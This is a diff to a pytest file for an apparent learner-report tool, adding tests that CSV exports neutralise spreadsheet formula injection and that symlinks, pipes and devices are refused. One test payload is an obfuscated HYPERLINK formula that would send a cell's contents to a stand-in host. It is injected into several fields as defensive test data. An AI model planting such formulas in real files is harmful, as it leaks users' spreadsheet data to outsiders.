@@ -6,6 +6,7 @@ import csv
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 import tempfile
@@ -20,7 +21,10 @@ from hypothesis import strategies as st
 from exercises.core import export, progress, report
 
 ROOT = Path(__file__).resolve().parents[1]
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+# A formula character at the start of a cell or after anything a spreadsheet may split cells on
+# (comma, semicolon, bar, tab, space, line break) or a double quote, spaces between included.
+AFTER_SEPARATOR = re.compile(r"""(?:^|[,;|\t\r\n "])\s*[=+\-@]""")
 UNSAFE = {"Cc", "Cf", "Cs", "Zl", "Zp"}
 PROPERTY = settings(max_examples=40, deadline=None, derandomize=True, database=None,
                     suppress_health_check=[HealthCheck.too_slow])
@@ -58,12 +62,26 @@ def unsafe_characters(text):
     return [ch for ch in text if unicodedata.category(ch) in UNSAFE and ch != "\n"]
 
 
+def formula_starts(cell):
+    """Where a formula could start in a cell, were it split at any separator."""
+    return AFTER_SEPARATOR.findall(cell) + ([cell[0]] if cell.startswith(FORMULA_STARTS) else [])
+
+
+def assert_quoted(text):
+    """Every field of every line is quoted (the CSV holds no line break inside a field)."""
+    for line in text.splitlines():
+        assert line.startswith('"') and line.endswith('"'), line
+        assert re.fullmatch(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*', line), line
+
+
 def assert_safe(rep):
-    """No CSV cell starts a formula or holds a control character; no summary line does either."""
-    text = report.csv_text(rep)
-    for cell in cells(text):
-        assert not cell.startswith(FORMULA_STARTS), cell
-        assert unsafe_characters(cell) == [], cell
+    """Every CSV field quoted; no CSV cell starts a formula, even after a separator, or holds a
+    control character, in any of the three CSVs; no summary line holds one either."""
+    for text in (report.csv_text(rep), report.gradebook_text(rep), report.files_text(rep)):
+        assert_quoted(text)
+        for cell in cells(text):
+            assert formula_starts(cell) == [], cell
+            assert unsafe_characters(cell) == [], cell
     assert unsafe_characters(report.summary_text(rep)) == []
 
 
@@ -113,18 +131,18 @@ def test_a_50_mb_file_is_skipped_by_its_size_without_being_read(folder):
         file.truncate(50_000_000)
     (folder / "ada.json").write_text(sealed("Ada"))
     opened = []
-    real_open = open
+    real_open = os.open
 
     def watching_open(path, *args, **kwargs):
         opened.append(Path(path).name)
         return real_open(path, *args, **kwargs)
 
     started = time.perf_counter()
-    report.open = watching_open  # the report's own file reads, seen from here
+    os.open = watching_open  # every file the report opens, seen from here
     try:
         rep = report.build(folder)
     finally:
-        del report.open
+        os.open = real_open
     assert time.perf_counter() - started < 5
     assert "huge.json" not in opened and "ada.json" in opened
     reason = dict(rep.skipped)["huge.json"]
@@ -141,7 +159,7 @@ def test_a_pipe_in_the_folder_is_skipped_not_waited_on(folder, tmp_path):
                           capture_output=True, text=True, timeout=60)
     assert done.returncode == 0, done.stderr
     assert "pipe.json: not a regular file" in done.stdout
-    assert "1 learner, 1 file skipped" in done.stdout
+    assert "1 learner, 1 file not used" in done.stdout
 
 
 @pytest.mark.parametrize("content, reason", [
@@ -190,7 +208,7 @@ def test_the_report_never_replaces_a_csv_without_force(folder, tmp_path):
     assert out.read_text() == "my own notes\n"
     done = subprocess.run(run + ["--force"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
     assert done.returncode == 0, done.stderr
-    assert out.read_text().startswith(",".join(report.CSV_COLUMNS))
+    assert out.read_text().startswith(",".join(f'"{c}"' for c in report.CSV_COLUMNS))
 
 
 def test_a_terminal_that_cannot_show_a_name_gets_an_escape_not_a_crash(folder, tmp_path):
@@ -274,7 +292,105 @@ def test_valid_exports_with_any_name_are_all_kept_and_safe(names):
     files = {f"e{i}.json": sealed(name, learner_id=f"{i:012d}").encode() for i, name in enumerate(names)}
     rep = run_report(files)
     every_file_is_kept_or_skipped(rep, files)
-    distinct = {export.clean_name(n).casefold() or f"id{i}" for i, n in enumerate(names)}
-    assert len(rep.exports) == len(distinct)  # only the same learner twice is ever dropped
-    assert all("duplicate" in reason for _name, reason in rep.skipped)
+    assert len(rep.exports) == len(names)  # one browser each: nobody replaces anybody
+    assert rep.skipped == []
     assert_safe(rep)
+
+
+# ---------------------------------------------------------------- links, pipes, devices
+
+def cli(folder, tmp_path, *args):
+    return subprocess.run([sys.executable, "-m", "exercises", "report", str(folder), "--csv",
+                           str(tmp_path / "out.csv"), *args], cwd=tmp_path,
+                          env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=60)
+
+
+def test_no_symbolic_link_is_followed_and_each_says_where_it_points(folder, tmp_path):
+    (folder / "ada.json").write_text(sealed("Ada"))
+    elsewhere = tmp_path / "elsewhere.json"      # a valid export, outside the folder
+    elsewhere.write_text(sealed("Mallory", learner_id="eeeeeeeeeeee"))
+    os.mkfifo(tmp_path / "pipe")
+    (folder / "loop.json").symlink_to("loop.json")
+    (folder / "dangling.json").symlink_to("nowhere.json")
+    (folder / "outside.json").symlink_to(elsewhere)
+    (folder / "inside.json").symlink_to("ada.json")
+    (folder / "to-pipe.json").symlink_to(tmp_path / "pipe")
+    (folder / "to-device.json").symlink_to("/dev/zero")
+    (folder / "to-folder").symlink_to(tmp_path)
+    done = cli(folder, tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert done.stderr == ""
+    files = {r["file"]: r for r in csv.DictReader(io.StringIO((tmp_path / "out-files.csv").read_text()))}
+    expected = {"loop.json": "points to itself, in a loop", "dangling.json": "points to nothing",
+                "outside.json": "to a file outside the folder", "inside.json": "to a file in the folder",
+                "to-pipe.json": "to a pipe outside the folder", "to-device.json": "to a device outside the folder",
+                "to-folder": "to a folder outside the folder"}
+    for name, where in expected.items():
+        assert files[name]["outcome"] == "skipped"
+        assert files[name]["reason"].startswith("a symbolic link (the report follows none)"), files[name]
+        assert where in files[name]["reason"], files[name]
+    assert files["ada.json"]["outcome"] == "used"
+    assert "Mallory" not in (tmp_path / "out.csv").read_text()
+    assert f"1 learner, {len(expected)} files not used" in done.stdout
+
+
+def test_a_file_swapped_for_a_link_or_a_pipe_after_the_listing_is_not_followed_or_waited_on(tmp_path):
+    from exercises.core import untrusted
+
+    os.mkfifo(tmp_path / "pipe")                         # nobody ever writes to it
+    (tmp_path / "link").symlink_to(tmp_path / "pipe")
+    with pytest.raises(untrusted.Refused, match="not a regular file \\(a pipe\\)"):
+        untrusted.read_capped(str(tmp_path / "pipe"), 1000)
+    with pytest.raises(untrusted.Refused, match="symbolic link"):
+        untrusted.read_capped(str(tmp_path / "link"), 1000)
+    (tmp_path / "big").write_bytes(b"x" * 2000)
+    with pytest.raises(untrusted.Refused, match="too large"):
+        untrusted.read_capped(str(tmp_path / "big"), 1000)
+    (tmp_path / "small").write_bytes(b"x" * 1000)
+    assert untrusted.read_capped(str(tmp_path / "small"), 1000) == b"x" * 1000
+
+
+def test_an_error_while_looking_at_one_file_skips_that_file_only(folder, monkeypatch):
+    from exercises.core import untrusted
+
+    (folder / "ada.json").write_text(sealed("Ada"))
+    (folder / "odd-link.json").symlink_to("ada.json")
+
+    def broken(path, folder):
+        raise RuntimeError("Symlink loop")
+
+    monkeypatch.setattr(untrusted, "link_refusal", broken)
+    rep = report.build(folder)
+    assert [e.learner for e in rep.exports] == ["Ada"]
+    assert dict(rep.skipped)["odd-link.json"] == "could not be read (RuntimeError)"
+
+
+# ---------------------------------------------------------------- formulas after a separator
+
+PAYLOAD = ';=HYPERLINK(CHAR(104)&"ttp://example.invalid/?"&A3,"see")'
+
+
+def test_a_formula_after_a_separator_is_neutralised_in_every_column(folder):
+    data = json.loads(sealed("Ada" + PAYLOAD, learner_id="aa;=1+1"))
+    data["export"]["exported_at"] = "2026" + PAYLOAD
+    data["export"]["checksum"] = export.checksum(data)
+    (folder / ("x" + PAYLOAD.replace("/", "_") + ".json")).write_text(json.dumps(data))
+    (folder / ("junk, =1+2.json")).write_text("{")
+    rep = report.build(folder)
+    assert len(rep.exports) == 1
+    rows = list(csv.DictReader(io.StringIO(report.csv_text(rep))))
+    for column in ("learner", "learner_id", "exported_at", "file"):
+        assert ";'=HYPERLINK(" in rows[0][column] or ";'=1+1" in rows[0][column], column
+    assert any("junk, '=1+2.json" in line for line in report.files_text(rep).splitlines())
+    assert_safe(rep)
+
+
+@pytest.mark.parametrize("text, safe", [
+    ("=1+1", "'=1+1"), ("Ada;=1+1", "Ada;'=1+1"), ("Ada; =1+1", "Ada; '=1+1"), ("a,-2", "a,'-2"),
+    ("a|@SUM(A1)", "a|'@SUM(A1)"), ('a"+1', "a\"'+1"), ("\t=1", "'\t'=1"), ("Smith-Jones", "Smith-Jones"),
+    ("2026-03-01T10:00:00Z", "2026-03-01T10:00:00Z"), (3, 3),
+])
+def test_neutralise_follows_owasps_rule(text, safe):
+    from exercises.core import spreadsheet
+
+    assert spreadsheet.neutralise(text) == safe
